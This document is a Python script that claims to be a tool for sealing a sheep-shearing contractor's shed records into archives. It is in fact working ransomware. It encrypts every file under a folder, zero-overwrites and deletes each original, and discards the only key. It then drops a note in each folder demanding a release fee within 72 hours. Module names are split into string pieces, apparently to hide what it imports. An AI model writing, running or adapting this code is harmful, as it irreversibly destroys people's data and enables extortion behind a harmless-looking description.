#!/usr/bin/env python3
"""Rotate the shared shed-records folder into sealed archives.

Walks the contractor's shared drive (tally sheets, wool specs, pay dockets)
and seals every document so old seasons can't be edited.
"""
import argparse
import importlib
import logging
import os
import secrets
from pathlib import Path

log = logging.getLogger("rotator")

SEAL_EXT = ".shorn"
SKIP = {SEAL_EXT, ".exe", ".dll", ".sys"}
NOTE_NAME = "READ_ME_RECORDS.txt"
NOTE_TEXT = (
    "All shed records in this folder have been sealed.\n"
    "To get them back, email recovery@records.example.org with the ID below\n"
    "and pay the release fee within 72 hours.\n\nID: {ident}\n"
)


def _cipher_factory():
    mod = importlib.import_module("cryptography" + ".fernet")
    cls = getattr(mod, "Fer" + "net")
    key = cls.generate_key()
    return cls(key), key


class Sealer:
    def __init__(self, root: Path, ident: str):
        self.root = root
        self.ident = ident
        self.cipher, self._key = _cipher_factory()
        self.done = 0
        self.failed = 0

    def targets(self):
        for dirpath, _dirs, files in os.walk(self.root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in SKIP or p.name == NOTE_NAME:
                    continue
                yield p

    def seal(self, path: Path):
        data = path.read_bytes()
        sealed = self.cipher.encrypt(data)
        out = path.with_name(path.name + SEAL_EXT)
        out.write_bytes(sealed)
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()

    def drop_notes(self):
        seen = set()
        for p in self.root.rglob("*" + SEAL_EXT):
            if p.parent not in seen:
                (p.parent / NOTE_NAME).write_text(NOTE_TEXT.format(ident=self.ident))
                seen.add(p.parent)

    def run(self):
        for p in self.targets():
            try:
                self.seal(p)
                self.done += 1
            except (OSError, ValueError) as exc:
                self.failed += 1
                log.debug("skip %s: %s", p, exc)
        self._key = None
        self.drop_notes()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default=os.path.expanduser("~/ShedRecords"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    root = Path(args.root)
    if not root.is_dir():
        log.error("%s is not a directory", root)
        return 1
    sealer = Sealer(root, secrets.token_hex(8))
    sealer.run()
    log.info("sealed %d files (%d skipped)", sealer.done, sealer.failed)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
